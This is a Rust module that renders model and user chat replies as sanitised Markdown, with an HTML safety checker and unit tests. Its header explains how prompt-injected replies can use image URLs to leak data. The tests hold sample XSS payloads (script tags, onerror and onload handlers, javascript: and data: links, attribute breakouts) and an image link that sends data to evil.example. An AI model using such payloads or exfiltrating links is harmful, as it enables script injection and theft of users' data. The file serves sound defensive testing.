//! Chat replies rendered as Markdown, safely: nothing the model or the user wrote reaches the DOM
//! as markup. Raw HTML (blocks and inline) is shown as text, images are reduced to their alt
//! text (an image URL would load without a click, which prompt-injected replies use to exfiltrate
//! data), and links keep only `http`, `https` and `mailto` destinations, opened with
//! `rel="nofollow noopener noreferrer"`. Everything else is escaped by pulldown-cmark's HTML
//! writer. The same function renders on the server (history) and in the browser (streaming).

use pulldown_cmark::{CowStr, Event, Options, Parser, Tag, TagEnd, html};
use pulldown_cmark_escape::{escape_href, escape_html};

/// Whether a link destination may become an `href`.
fn safe_href(url: &str) -> bool {
    let lower = url.trim_start().to_ascii_lowercase();
    ["http://", "https://", "mailto:"]
        .iter()
        .any(|scheme| lower.starts_with(scheme))
}

/// Renders Markdown to HTML that is safe to set as an element's inner HTML.
pub fn to_safe_html(markdown: &str) -> String {
    let options = Options::ENABLE_TABLES
        | Options::ENABLE_STRIKETHROUGH
        | Options::ENABLE_TASKLISTS
        | Options::ENABLE_GFM;
    // Links whose destination is refused are shown as their text only; the stack remembers, for
    // every open link, whether an `<a>` was written for it.
    let mut links: Vec<bool> = Vec::new();
    let events = Parser::new_ext(markdown, options).filter_map(|event| match event {
        Event::Html(raw) | Event::InlineHtml(raw) => Some(Event::Text(raw)),
        Event::Start(Tag::Image { .. }) | Event::End(TagEnd::Image) => None,
        Event::Start(Tag::Link {
            dest_url, title, ..
        }) => {
            if safe_href(&dest_url) {
                links.push(true);
                let mut a = String::from("<a href=\"");
                let _ = escape_href(&mut a, &dest_url);
                a.push('"');
                if !title.is_empty() {
                    a.push_str(" title=\"");
                    let _ = escape_html(&mut a, &title);
                    a.push('"');
                }
                a.push_str(" rel=\"nofollow noopener noreferrer\" target=\"_blank\">");
                Some(Event::InlineHtml(CowStr::from(a)))
            } else {
                links.push(false);
                None
            }
        }
        Event::End(TagEnd::Link) => match links.pop() {
            Some(true) => Some(Event::InlineHtml(CowStr::Borrowed("</a>"))),
            _ => None,
        },
        other => Some(other),
    });
    let mut out = String::with_capacity(markdown.len() * 3 / 2 + 16);
    html::push_html(&mut out, events);
    out
}

/// Checks the renderer's promise on its output: every tag is one it writes itself, with known
/// attributes only, links only to http(s) or mailto, and no raw tag, event handler or
/// `javascript:` URL. The fuzz target and the tests hold every output to it.
pub fn check_inert(html: &str) -> Result<(), String> {
    const TAGS: &[&str] = &[
        "p",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "strong",
        "em",
        "code",
        "pre",
        "ul",
        "ol",
        "li",
        "a",
        "blockquote",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "del",
        "hr",
        "br",
        "input",
        "sup",
        "div",
        "span",
    ];
    const ATTRS: &[&str] = &[
        "href", "rel", "target", "title", "class", "disabled", "type", "checked", "start", "style",
        "id",
    ];
    for piece in html.split('<').skip(1) {
        let tag = piece.split('>').next().unwrap_or_default();
        let tag = tag.trim_end_matches('/');
        let mut parts = tag.splitn(2, ' ');
        let name = parts.next().unwrap_or_default().trim_start_matches('/');
        if !TAGS.contains(&name) {
            return Err(format!("tag <{name}>"));
        }
        let mut rest = parts.next().unwrap_or_default().trim();
        while !rest.is_empty() {
            let (attr, after) = rest.split_once('=').unwrap_or((rest, ""));
            let attr = attr.trim();
            if !ATTRS.contains(&attr) {
                return Err(format!("attribute {attr}"));
            }
            let after = after.strip_prefix('"').unwrap_or(after);
            let (value, tail) = after.split_once('"').unwrap_or((after, ""));
            if attr == "href" && !safe_href(value) {
                return Err(format!("href {value}"));
            }
            if attr == "type" && value != "checkbox" {
                return Err(format!("type {value}"));
            }
            rest = tail.trim();
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::to_safe_html;

    fn assert_inert(html: &str) {
        if let Err(e) = super::check_inert(html) {
            panic!("{e} in {html}");
        }
    }

    #[test]
    fn markdown_renders() {
        let html = to_safe_html(
            "# Title\n\n**bold** and `code` and a [link](https://example.com).\n\n- a\n- b\n\n```rust\nfn main() {}\n```",
        );
        assert!(html.contains("<h1>Title</h1>"), "{html}");
        assert!(html.contains("<strong>bold</strong>"));
        assert!(html.contains("<code>code</code>"));
        assert!(html.contains(
            "<a href=\"https://example.com\" rel=\"nofollow noopener noreferrer\" target=\"_blank\">link</a>"
        ));
        assert!(html.contains("<li>a</li>"));
        assert!(html.contains("<pre><code class=\"language-rust\">fn main() {}"));
    }

    #[test]
    fn raw_html_is_shown_as_text() {
        for input in [
            "<script>alert(1)</script>",
            "hello <script>document.title='pwned'</script> world",
            "<img src=x onerror=alert(1)>",
            "<iframe src=\"https://evil.example\"></iframe>",
            "<svg onload=alert(1)>",
            "text <b onclick=\"alert(1)\">bold</b>",
            "<div>\n<script>alert(1)</script>\n</div>",
            "<style>body{display:none}</style>",
            "<!-- comment --><script>x</script>",
        ] {
            let html = to_safe_html(input);
            assert_inert(&html);
            assert!(html.contains("&lt;"), "{input} -> {html}");
        }
        assert_eq!(
            to_safe_html("<script>alert(1)</script>"),
            "&lt;script&gt;alert(1)&lt;/script&gt;"
        );
    }

    #[test]
    fn dangerous_links_lose_their_href() {
        for input in [
            "[x](javascript:alert(1))",
            "[x](JAVASCRIPT:alert(1))",
            "[x]( javascript:alert(1))",
            "[x](&#106;avascript:alert(1))",
            "[x](java\\script:alert(1))",
            "<javascript:alert(1)>",
            "[x](data:text/html;base64,PHNjcmlwdD4=)",
            "[x](vbscript:msgbox(1))",
            "[x][r]\n\n[r]: javascript:alert(1)",
        ] {
            let html = to_safe_html(input);
            assert_inert(&html);
            assert!(!html.contains("<a"), "{input} -> {html}");
        }
        // The text of a refused link stays.
        assert_eq!(to_safe_html("[click](javascript:x)"), "<p>click</p>\n");
    }

    #[test]
    fn images_become_their_alt_text() {
        let html = to_safe_html("![secret data](https://evil.example/leak?d=123)");
        assert_eq!(html, "<p>secret data</p>\n");
    }

    #[test]
    fn attribute_breakouts_are_escaped() {
        let html = to_safe_html("[a](https://x.example/\"onmouseover=\"alert(1) \"t\\\"itle\")");
        assert_inert(&html);
        assert!(!html.contains("\"onmouseover"), "{html}");
        let html = to_safe_html("[a](<https://x.example/\" onclick=\"alert(1)>)");
        assert!(!html.contains("\" onclick"), "{html}");
    }

    #[test]
    fn partial_markdown_while_streaming_is_fine() {
        for partial in [
            "**bol",
            "```rust\nfn",
            "[li",
            "[link](https://exa",
            "<scr",
            "<script",
        ] {
            assert_inert(&to_safe_html(partial));
        }
    }
}
